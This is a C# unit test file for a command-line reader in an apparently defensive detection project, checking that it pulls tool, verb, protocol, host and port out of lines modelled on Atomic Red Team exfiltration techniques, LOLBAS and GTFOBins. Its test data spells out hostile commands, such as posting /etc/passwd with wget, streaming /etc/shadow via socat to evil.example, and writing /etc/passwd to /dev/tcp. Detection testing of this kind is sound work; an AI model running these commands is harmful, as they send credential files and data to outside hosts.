using Det0131.Models.Knowledge.CommandLines;

namespace Det0131.Models.Tests.Knowledge.CommandLines;

/// <summary>Lines after the commands of Atomic Red Team (T1048, T1105, T1567, T1572), LOLBAS and GTFOBins; expected values were worked out by hand from the tools' manuals.</summary>
public class CommandLineReaderTests
{
    [Theory]
    // Plain uploads.
    [InlineData("curl -k -F file=@/tmp/artifact https://file.io/", "curl", "curl", "form-file", "ssl", "file.io", 443)]
    [InlineData("curl -sST /tmp/x ftp://ftp.example.org:2121/in/", "curl", "curl", "upload-file", "ftp", "ftp.example.org", 2121)]
    [InlineData("curl -T data.csv example.com", "curl", "curl", "upload-file", "http", "example.com", 80)]
    [InlineData("curl --silent --upload-file data.csv example.com:8080/up", "curl", "curl", "upload-file", "http", "example.com", 8080)]
    [InlineData("curl -oTest.html http://example.com", "curl", "curl", null, "http", "example.com", 80)]
    [InlineData("curl -x http://proxy:3128 -H \"Referer: https://a.example\" https://b.example/x", "curl", "curl", null, "ssl", "b.example", 443)]
    [InlineData("curl -X POST -H \"user: a\" -F file=@/tmp/out.zip http://198.51.100.7/joinsystem", "curl", "curl", "form-file", "http", "198.51.100.7", 80)]
    [InlineData("curl https://[2001:db8::1]:8443/x?a=1&b=2", "curl", "curl", null, "ssl", "2001:db8::1", 8443)]
    [InlineData("wget --post-file=/etc/passwd --no-check-certificate https://alice:pw@example.com/", "wget", "wget", "post-file", "ssl", "example.com", 443)]
    [InlineData("wget --quiet example.net/file", "wget", "wget", null, "http", "example.net", 80)]
    // Secure shell and its relatives.
    [InlineData("scp -P 2222 /tmp/a bob@files.example.com:/in", "scp", "scp", "push", "ssh", "files.example.com", 2222)]
    [InlineData("scp bob@files.example.com:/in/a C:\\x", "scp.exe", "scp", null, "ssh", "files.example.com", 22)]
    [InlineData("sftp -P2200 bob@host.example:/up", "sftp", "sftp", null, "ssh", "host.example", 2200)]
    [InlineData("rsync -az -e \"ssh -p 2022\" /data/ u@h.example:/b", "rsync", "rsync", "push", "ssh", "h.example", 2022)]
    [InlineData("rsync -a /data rsync.example::module", "rsync", "rsync", "push", "rsync", "rsync.example", 873)]
    [InlineData("ssh -i key.pem -p 22022 ec2-user@10.1.2.3 'cat > x'", "ssh", "ssh", "write-remote", "ssh", "10.1.2.3", 22022)]
    [InlineData("pscp.exe -P 22 c:\\f user@192.0.2.4:/tmp", "pscp.exe", "pscp", "push", "ssh", "192.0.2.4", 22)]
    // Raw sockets.
    [InlineData("nc -w 3 203.0.113.9 4444", "nc", "nc", null, null, "203.0.113.9", 4444)]
    [InlineData("nc -lvp 4444", "nc", "nc", null, null, null, null)]
    [InlineData("socat -u FILE:/etc/shadow OPENSSL:evil.example:8443,verify=0", "socat", "socat", null, "ssl", "evil.example", 8443)]
    [InlineData("openssl s_client -quiet -connect evil.example:4433", "openssl", "openssl", "s_client", "ssl", "evil.example", 4433)]
    [InlineData("bash -c 'cat /etc/passwd > /dev/tcp/203.0.113.5/8080'", "bash", "bash", "socket", null, "203.0.113.5", 8080)]
    // FTP.
    [InlineData("ftp -n ftp.example.com 2100", "ftp", "ftp", null, "ftp", "ftp.example.com", 2100)]
    [InlineData("ftp.exe -v -s:ftp.txt", "ftp.exe", "ftp", "script", null, null, null)]
    [InlineData("tftp -i 192.0.2.1 put secret.zip", "tftp.exe", "tftp", "put", "tftp", "192.0.2.1", 69)]
    // Shares and WebDAV.
    [InlineData("cmd.exe /c type c:\\x > \\\\evil.example@80\\share\\x", "cmd.exe", null, null, "http", "evil.example", 80)]
    [InlineData("robocopy c:\\d \\\\host@SSL@8443\\s", "robocopy.exe", "robocopy", null, "ssl", "host", 8443)]
    [InlineData("xcopy c:\\d \\\\fileserver\\s", "xcopy.exe", "xcopy", null, "smb", "fileserver", 445)]
    // Cloud.
    [InlineData("aws s3 cp /tmp/db.sql s3://bucket-x/y --endpoint-url https://minio.example:9000", "aws", "aws", "copy", "ssl", "minio.example", 9000)]
    [InlineData("aws s3 sync s3://bucket-x /tmp", "aws", "aws", null, "ssl", "bucket-x.s3.amazonaws.com", 443)]
    [InlineData("gsutil -m cp -r /data gs://bucket-y/", "gsutil", "gsutil", "copy", "ssl", "bucket-y.storage.googleapis.com", 443)]
    [InlineData("rclone.exe copy --max-size 1700k c:\\users T1567002:test -v", "rclone.exe", "rclone", "copy", null, null, null)]
    [InlineData("azcopy copy C:\\d https://acct.blob.core.windows.net/c?sig=x --recursive", "azcopy.exe", "azcopy", "copy", "ssl", "acct.blob.core.windows.net", 443)]
    // Resolvers.
    [InlineData("dig @8.8.8.8 -p 53 c2VjcmV0Cg==.google.com", "dig", "dig", null, "dns", "8.8.8.8", 53)]
    [InlineData("nslookup -type=TXT abc.evil.example 1.1.1.1", "nslookup.exe", "nslookup", null, "dns", "1.1.1.1", 53)]
    [InlineData("powershell Resolve-DnsName -Name a.b.example -Type TXT -Server 9.9.9.9 -QuickTimeout", "powershell.exe", "powershell", "dns-query", "dns", "9.9.9.9", 53)]
    // Script hosts and LOLBAS.
    [InlineData("powershell -c \"(New-Object Net.WebClient).UploadFile('ftp://10.9.8.7/x','c:\\f')\"", "powershell.exe", "powershell", "upload-file", "ftp", "10.9.8.7", 21)]
    [InlineData("powershell Send-MailMessage -SmtpServer mail.example -Port 2525 -Attachments c:\\x", "powershell.exe", "powershell", "mail", "smtp", "mail.example", 2525)]
    [InlineData("powershell IWR -Method Put -InFile x https://google.com", "powershell.exe", "powershell", "upload-file", "ssl", "google.com", 443)]
    [InlineData("certreq -Post -config https://example.com c:\\windows\\win.ini", "certreq.exe", "certreq", "post-file", "ssl", "example.com", 443)]
    [InlineData("bitsadmin /transfer j /upload /priority normal https://x.example/f c:\\f", "bitsadmin.exe", "bitsadmin", "upload-file", "ssl", "x.example", 443)]
    [InlineData("python3 -m http.server 9090", "python3", "python", "serve", null, null, null)]
    // Named by a shell.
    [InlineData("sh -c \"tar cz /etc | curl -T - http://h.example\"", "sh", "curl", "upload-file", "http", "h.example", 80)]
    [InlineData("sudo -u bob curl http://h.example", "sudo", "curl", null, "http", "h.example", 80)]
    [InlineData("cmd /c curl.exe -d @x http://h.example", "cmd.exe", "curl", "post-data", "http", "h.example", 80)]
    [InlineData("timeout 30 nc h.example 9", "timeout", "nc", null, null, "h.example", 9)]
    [InlineData("sudo apt install curl", "sudo", null, null, null, null, null)]
    [InlineData("\"C:\\\\Windows\\\\System32\\\\x.exe\"", "x.exe", null, null, null, null, null)]
    [InlineData("man scp", "man", null, null, null, null, null)]
    [InlineData("notepad.exe c:\\notes\\ftp.txt", "notepad.exe", null, null, null, null, null)]
    [InlineData("python3 -c \"import os;os.system('curl -F a=@b https://h.example')\"", "python3", "python", null, "ssl", "h.example", 443)]
    public void Read_Line_FindsToolVerbAndFarEnd(string line, string process, string? tool, string? verb, string? application, string? host, int? port)
    {
        var facts = CommandLineReader.Shipped.Read(line, process, default);

        Assert.Equal(tool, facts.Tool?.Name);
        Assert.Equal(verb, facts.Verb);
        Assert.Equal(host ?? "", string.Concat(facts.Target.Host, facts.Target.HostSuffix));
        Assert.Equal((application, port), (facts.Target.Application, facts.Target.Port));
        Assert.Equal(host is not null, facts.HasUrlOrAddress);
    }

    [Fact]
    public void Read_Resolver_GivesNameAndType()
    {
        var facts = CommandLineReader.Shipped.Read("dig +short @8.8.8.8 TXT c2VjcmV0Cg==.google.com", "dig", default);

        Assert.Equal("c2VjcmV0Cg==.google.com", facts.DnsName.ToString());
        Assert.Equal("TXT", facts.DnsType.ToString());
        Assert.True(facts.Target.IsAddress);
    }

    [Theory]
    [InlineData("svhost.exe", "rclone.exe", "rclone", true)]
    [InlineData("rclone.exe", "rclone.exe", "rclone", false)]
    [InlineData("notepad.exe", "notepad.exe", null, false)]
    [InlineData("", "rclone.exe", "rclone", false)]
    public void Read_OriginalName_TellsRenamedTool(string process, string original, string? tool, bool renamed)
    {
        var facts = CommandLineReader.Shipped.Read("x copy C:\\d remote:y", process, original);

        Assert.Equal(tool, facts.Tool?.Name);
        Assert.Equal(renamed, facts.IsRenamed);
        Assert.Equal(tool is null ? null : "copy", facts.Verb);
    }

    [Theory]
    [InlineData("http://$HOST/x")]
    [InlineData("http:///x")]
    [InlineData("http://a..b/x")]
    [InlineData("http://user@/x")]
    [InlineData("http://[zz]/x")]
    public void Read_HostThatIsNone_HasUrlButNoTarget(string url)
    {
        var facts = CommandLineReader.Shipped.Read("curl " + url, "curl", default);

        Assert.True(facts.HasUrl);
        Assert.False(facts.Target.IsPresent);
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("\"")]
    [InlineData("(((((")]
    [InlineData("://")]
    [InlineData("curl -T")]
    [InlineData("\\\\")]
    [InlineData("nc -p")]
    [InlineData("scp :")]
    [InlineData("dig @")]
    [InlineData("socat TCP:")]
    [InlineData("/dev/tcp/")]
    public void Read_Fragment_GivesNoTarget(string line)
    {
        Assert.False(CommandLineReader.Shipped.Read(line, default, default).Target.IsPresent);
    }

    [Fact]
    public void Read_AnyText_NeverThrows()
    {
        // Property over seeded random text from the characters that the reader treats specially.
        const string alphabet = "abc.:/\\@-= \"'|;&()[]{}$`,0159%\u00e9\ud83d";
        var random = new Random(7);
        string[] processes = ["curl", "scp", "nc", "dig", "powershell.exe", "ftp", "socat", "sh", "rsync", "nslookup"];
        for (int i = 0; i < 20_000; i++)
        {
            var line = string.Create(random.Next(60), random, (span, r) =>
            {
                foreach (ref char c in span)
                {
                    c = alphabet[r.Next(alphabet.Length)];
                }
            });
            var facts = CommandLineReader.Shipped.Read(line, processes[i % processes.Length], default);
            Assert.True(facts.Target.Port is null or (> 0 and <= 65535));
        }
    }

    [Fact]
    public void Read_SteadyState_AllocatesNothing()
    {
        string[] lines =
        [
            "curl -sST /tmp/x ftp://ftp.example.org:2121/in/", "powershell -c \"(New-Object Net.WebClient).UploadFile('ftp://10.9.8.7/x','c:\\f')\"",
            "scp -P 2222 /tmp/a bob@files.example.com:/in", "dig @8.8.8.8 -p 53 c2VjcmV0Cg==.google.com", "sh -c \"tar cz /etc | curl -T - http://h.example\"",
        ];
        Read(lines);

        Assert.Equal(0, Allocation.LeastOfRounds(() => Read(lines)));

        static void Read(string[] lines)
        {
            foreach (var line in lines)
            {
                Assert.NotNull(CommandLineReader.Shipped.Read(line, "sh", default).Tool);
            }
        }
    }
}
